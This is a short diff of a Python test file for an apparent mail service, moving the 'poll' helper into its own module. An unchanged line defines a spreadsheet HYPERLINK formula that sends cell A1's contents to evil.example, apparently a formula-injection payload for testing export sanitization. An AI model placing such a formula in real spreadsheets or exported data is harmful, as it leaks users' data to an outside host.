@@ -14,7 +14,8 @@ import pytest_asyncio
 from mailblast.v1 import auth_pb2, auth_pb2_grpc
 
 from services.common.identity import IDENTITY_HEADER, IdentitySigner, Principal
-from tests.support.console import OWNER, PASSWORD, Console, Web, create_list, poll, start_console
+from tests.support.console import OWNER, PASSWORD, Console, Web, create_list, start_console
+from tests.support.poll import poll
 from tests.support.stack import make_dkim_keys
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'
